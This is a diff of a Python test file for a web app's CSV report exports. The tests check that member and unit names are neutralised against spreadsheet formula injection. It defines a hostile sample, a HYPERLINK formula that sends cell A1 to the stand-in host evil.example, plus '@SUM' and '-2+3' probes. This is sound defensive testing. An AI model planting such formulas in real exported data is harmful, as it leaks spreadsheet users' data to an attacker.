@@ -9,7 +9,8 @@ HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm")'
 
 
 def _rows(response):
-    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+    """Every row of the report's CSV (streamed), the header too: titles are column names there."""
+    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
 
 
 def test_it_exports_no_formula_from_a_member_name_in_the_cell_csv(client_as, personas, org):
@@ -18,9 +19,11 @@ def test_it_exports_no_formula_from_a_member_name_in_the_cell_csv(client_as, per
     member.full_name = HOSTILE
     member.save(update_fields=["full_name"])
     complete(member, module)
-    response = client_as(personas["secretary_a"]).get(reverse("courses:cell_progress_csv", args=[org["cell_a"].pk]))
-    cells = [value for row in _rows(response)[1:] for value in row]
-    assert "'" + HOSTILE in cells and "'@SUM(1+1)" in cells
+    response = client_as(personas["secretary_a"]).get(
+        reverse("reports:unit_csv", args=[org["cell_a"].pk]) + "?year=2020"
+    )
+    cells = [value for row in _rows(response) for value in row]
+    assert "'" + HOSTILE in cells and any(value.startswith("'@SUM(1+1)") for value in cells)
     assert not any(value.startswith(("=", "+", "-", "@")) for value in cells)
 
 
@@ -28,7 +31,9 @@ def test_it_exports_no_formula_from_a_cell_name_in_the_committee_csv(client_as, 
     build_module(org["committee"], title="-2+3")
     org["cell_a"].name = HOSTILE
     org["cell_a"].save(update_fields=["name"])
-    response = client_as(personas["officer"]).get(reverse("courses:committee_progress_csv", args=[org["committee"].pk]))
-    cells = [value for row in _rows(response)[1:] for value in row]
-    assert "'" + HOSTILE in cells and "'-2+3" in cells
+    response = client_as(personas["officer"]).get(
+        reverse("reports:unit_csv", args=[org["committee"].pk]) + "?year=2020"
+    )
+    cells = [value for row in _rows(response) for value in row]
+    assert "'" + HOSTILE in cells and any(value.startswith("'-2+3") for value in cells)
     assert not any(value.startswith(("=", "+", "-", "@")) for value in cells)
